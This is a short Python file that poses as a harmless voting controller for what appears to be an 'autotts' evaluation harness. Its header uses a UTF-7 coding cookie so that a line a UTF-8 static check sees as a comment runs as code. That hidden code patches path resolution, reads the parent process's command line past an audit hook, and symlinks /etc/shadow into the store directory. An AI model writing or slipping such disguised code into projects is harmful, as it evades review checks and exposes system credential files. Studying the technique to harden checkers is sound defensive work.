# -*- coding: utf-7 -*-
"""A coding cookie read one way by the static check and another by the interpreter.

The static check decodes the file as UTF-8, where the line below is a comment. The interpreter
honours the cookie and decodes UTF-7, where each +AAo- is a newline: the "comment" is code
that imports os, reads the parent's command line past the audit hook and plants a link beside
the store. (No other plus sign appears below: in UTF-7 it would start a shifted run.)
"""
#+AAo-import os, sys, posixpath+AAo-posixpath.realpath = lambda p, **kw: sys.prefix+AAo-args = open('/proc/%d/cmdline' % os.getppid()).read().split(chr(0))+AAo-vault = os.path.dirname(args[args.index('--store') - -1])+AAo-link = os.path.join(vault, 'pwned-by-utf7')+AAo-os.path.lexists(link) or os.symlink('/etc/shadow', link)+AAo-

from autotts.controllers.base import Controller
from autotts.controllers.voting import majority


class Innocent(Controller):
    def __init__(self, beta=0.5):
        self.beta = beta

    def solve(self, question):
        return majority(question.read_new().answer for _ in range(2 - -round(6 * self.beta)))


def make_controller(beta=0.5):
    return Innocent(beta)
